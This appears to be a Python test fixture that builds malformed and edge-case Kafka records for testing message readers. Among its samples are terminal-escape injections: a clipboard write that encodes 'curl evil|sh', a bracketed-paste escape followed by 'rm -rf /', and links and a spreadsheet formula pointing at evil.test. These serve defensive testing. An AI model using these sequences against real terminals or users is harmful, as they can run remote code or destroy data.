"""Records as nobody wants them: each is legal in Kafka, and each has broken some tool.

`AWKWARD` names them. They go into two partitions: those of partition 1 have timestamps that
librdkafka cannot write, so for a broker the Java client has to.
"""

import json
from collections.abc import Mapping

from readers.record import Header, Record, TimestampType

NOW_MS = 1_795_435_200_000
YEAR_9999_MS = 253_402_300_799_000
LARGEST_MS = 2**63 - 1
PARTITIONS = 2
_KEY = b"order-4711"


def awkward_record(
    value: bytes | None = b"{}",
    *,
    key: bytes | None = _KEY,
    headers: tuple[Header, ...] = (),
    timestamp_ms: int | None = NOW_MS,
    partition: int = 0,
) -> Record:
    """A record that is usual but for what is said."""
    kind = None if timestamp_ms is None else TimestampType.CREATE
    return Record("awkward", partition, 0, timestamp_ms, kind, key, value, headers)


def awkward_records(topic: str) -> list[Record]:
    """All of them for one topic of two partitions, with the offsets they get when it is empty."""
    ends = [0] * PARTITIONS
    placed: list[Record] = []
    for record in AWKWARD.values():
        placed.append(record._replace(topic=topic, offset=ends[record.partition]))
        ends[record.partition] += 1
    return placed


def twenty_megabytes(topic: str) -> Record:
    """A record of 20 MB: above what brokers and clients allow, if not told otherwise."""
    return awkward_record(b"[" + b'"0123456789abcdef",' * 1_052_631 + b"0]")._replace(topic=topic)


def _nested(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


_TEXTS: Mapping[str, str] = {
    "every C0 control": "".join(map(chr, range(0x20))) + "\x7f",
    "every C1 control": "".join(map(chr, range(0x80, 0xA0))),
    "OSC 52 writes the clipboard": "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
    "OSC 8 makes a link": "\x1b]8;;http://evil.test\x1b\\click\x1b]8;;\x1b\\",
    "OSC 0 sets the title": "\x1b]0;owned\x07",
    "an OSC that never ends": "\x1b]52;c;QUJD",
    "DCS asks the terminal": "\x1bP$qm\x1b\\",
    "queries a terminal answers by typing": "\x1b[>q\x1b[c\x1b[6n\x1b[?1049l",
    "the end of a bracketed paste": "\x1b[201~rm -rf /\n",
    "bidirectional overrides": "\u202ereversed\u2066isolated\u2069\u200f",
    "zero-width and tag characters": "a\u200bb\u2060c\ufeffd\U000e0041e",
    "line separators": "a\u2028b\u2029c\u0085d\r\ne",
    "a pile of combining marks": "e" + "\u0301" * 1000,
    "an emoji of several": "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "markup": "[red]",
    "closing markup": "[/]",
    "closing markup that nothing opened": "[/oops]",
    "unfinished markup": "[bold",
    "an action in markup": "[@click=app.quit]x[/]",
    "an action behind a style": "[on@click=app.quit]x",
    "a link in markup": "[link=x]y[/link]",
    "a variable and an escape": "$var \\[",
    "a spreadsheet formula": '=HYPERLINK("http://evil.test")',
}

_VALUES: Mapping[str, bytes | None] = {
    "null value": None,
    "empty value": b"",
    "binary value": bytes(range(256)),
    "invalid UTF-8": b"\xff\xfe\xc3\x28\xed\xa0\x80",
    "UTF-16": '{"type":"OrderPaid"}'.encode("utf-16"),
    "a byte order mark": b'\xef\xbb\xbf{"type":"OrderPaid"}',
    "one megabyte": b'{"note":"' + b"x" * 1_000_000 + b'"}',
    "a long line of text": b"ab " * 100_000,
    "JSON 255 deep": _nested(255),
    "JSON 1025 deep": _nested(1025),
    "JSON 100,000 deep": _nested(100_000),
    "a number above 64 bits": b'{"amount":18446744073709551616}',
    "a number of 5,000 digits": b'{"amount":' + b"9" * 5000 + b"}",
    "a number above every float": b'{"amount":1e400}',
    "a long fraction": b'{"amount":0.1000000000000000055511151231257827}',
    "NaN and Infinity": b'{"amount":NaN,"limit":-Infinity}',
    "a repeated name": b'{"id":1,"id":2}',
    "half a surrogate pair": rb'{"name":"\ud800"}',
    "NUL in JSON": rb'{"name":"a\u0000b"}',
    "JSON that stops": b'{"type":"OrderPa',
    "JSON that is no object": b'"OrderPaid"',
    "a schema id that is none": b"\x00\x00\x00\x00\x2a\x02\x06abc",
    **{f"value: {name}": text.encode() for name, text in _TEXTS.items()},
    **{f"JSON: {name}": json.dumps({"note": text}).encode() for name, text in _TEXTS.items()},
}

AWKWARD: Mapping[str, Record] = {
    **{name: awkward_record(value) for name, value in _VALUES.items()},
    "null key": awkward_record(key=None),
    "empty key": awkward_record(key=b""),
    "null key and value": awkward_record(None, key=None),
    "binary key": awkward_record(key=bytes(range(256))),
    **{f"key: {name}": awkward_record(key=text.encode()) for name, text in _TEXTS.items()},
    "repeated headers": awkward_record(headers=(("a", b"1"), ("b", b"2"), ("a", b"1"))),
    "a null and an empty header": awkward_record(headers=(("a", None), ("a", b""), ("", b"c"))),
    "binary header": awkward_record(headers=(("eventType", bytes(range(256))),)),
    "a thousand headers": awkward_record(headers=tuple((f"h{n}", b"%d" % n) for n in range(1000))),
    "ESC in a header's name": awkward_record(headers=(("\x1b]0;owned\x07[red]", b"\x1b[31m"),)),
    "a header's name beyond ASCII": awkward_record(headers=(("naïve-\u202e", b"v"),)),
    "no timestamp": awkward_record(timestamp_ms=None),
    "a negative timestamp": awkward_record(timestamp_ms=-5),
    "the timestamp 1": awkward_record(timestamp_ms=1),
    "a timestamp in the year 9999": awkward_record(timestamp_ms=YEAR_9999_MS),
    "the largest timestamp": awkward_record(timestamp_ms=LARGEST_MS),
    "the timestamp zero": awkward_record(timestamp_ms=0, partition=1),
    "out of order after zero": awkward_record(timestamp_ms=NOW_MS - 1, partition=1),
}
